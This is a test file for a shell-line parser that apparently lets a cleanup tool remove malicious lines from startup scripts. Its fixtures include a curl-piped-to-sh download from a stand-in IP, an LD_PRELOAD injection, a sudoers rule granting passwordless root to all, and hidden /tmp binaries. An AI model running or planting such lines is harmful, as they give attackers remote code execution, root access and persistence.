import { expect, test } from 'bun:test';
import { linesWith } from './self-contained.ts';

const ofOne = (line: string): boolean => linesWith([line], 0) !== undefined;

test('a line that stands by itself can go', () => {
  expect(
    [
      '/tmp/.x/kdump &',
      'nohup sh -c "curl http://192.0.2.9/x | sh" >/dev/null 2>&1 &',
      'if [ -x /tmp/.x/a ]; then /tmp/.x/a & fi',
      'while true; do /tmp/.x/a; done &',
      "alias ls='ls --color'",
      'export LD_PRELOAD=/tmp/.l.so',
      'ALL ALL=(ALL) NOPASSWD: ALL',
    ].filter((line) => !ofOne(line)),
  ).toEqual([]);
});

test('a line that others need cannot', () => {
  expect(
    [
      'if [ -x /tmp/.x/a ]; then',
      'fi',
      'else /tmp/.x/a',
      'for i in 1 2; do',
      'done < /tmp/x',
      '  start) /tmp/.x/a ;;',
      'f() {',
      '}',
      "echo 'open",
      'cat <<EOF > /tmp/x',
      '/tmp/.x/a &&',
      '/tmp/.x/a |',
    ].filter(ofOne),
  ).toEqual([]);
  expect(linesWith(['test -x /tmp/a &&', '/tmp/a'], 1)).toBeUndefined();
});

test('what a backslash joins goes together', () => {
  const lines = ['# a', 'RUN+="/bin/sh \\', '  -c x" \\', '  ', 'next'];
  expect(linesWith(lines, 2)).toEqual([1, 2, 3]);
  expect(linesWith(lines, 4)).toEqual([4]);
});
